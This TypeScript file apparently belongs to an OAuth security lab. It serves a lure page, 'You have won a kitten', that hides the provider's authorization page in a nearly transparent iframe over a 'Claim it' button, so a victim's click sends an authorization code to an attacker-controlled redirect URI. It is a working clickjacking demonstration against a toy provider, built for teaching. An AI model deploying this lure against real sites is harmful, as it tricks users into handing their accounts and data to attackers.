/** A page with a button to click, and a page of the provider above it that is not to be seen. */
import type { Lab } from '../lab.ts'
import type { Routes } from '../serve.ts'
import type { Loot } from './loot.ts'

/** The frame is drawn a little, so that you see what happens; a real attacker writes 0. The sizes fit the page of the toy. */
const style = `
body { font: 1rem/1.5 system-ui, sans-serif; }
.stage { position: relative; width: 420px; height: 260px; }
.stage iframe { position: absolute; inset: 0; width: 420px; height: 260px; border: 0; opacity: 0.25; }
.stage button { position: absolute; top: 80px; left: 28px; width: 110px; height: 52px; font: inherit; }
`

export function prize(lab: Lab, loot: Loot): Routes {
  const query = new URLSearchParams({
    response_type: 'code',
    client_id: 'prize',
    redirect_uri: `${lab.at.attacker}/catch/prize`,
    scope: 'openid profile email',
    state: 'clicked',
    code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
    code_challenge_method: 'S256',
  })
  const html = (body: string) =>
    new Response(
      `<!doctype html>
<html lang="en">
<meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<title>You have won</title><link rel="icon" href="data:,"><style>${style}</style>
<main>${body}</main>
</html>`,
      { headers: { 'content-type': 'text/html; charset=utf-8' } },
    )

  return {
    '/prize': () =>
      html(`<h1>You have won a kitten</h1>
<div class="stage"><button>Claim it</button>
<iframe title="Prize" src="${lab.at.door}/authorize?${Bun.escapeHTML(query.toString())}"></iframe></div>
<p><a href="/prize/claimed">Is it mine?</a></p>`),
    '/prize/claimed': () => {
      if (loot.take('prize') !== undefined)
        return html('<h1>Thank you</h1><p>Bob may read your profile now.</p>')
      lab.note({ what: 'attacker got nothing', at: 'prize' })
      return html('<h1>No kitten</h1><p>Bob got nothing.</p>')
    },
  }
}
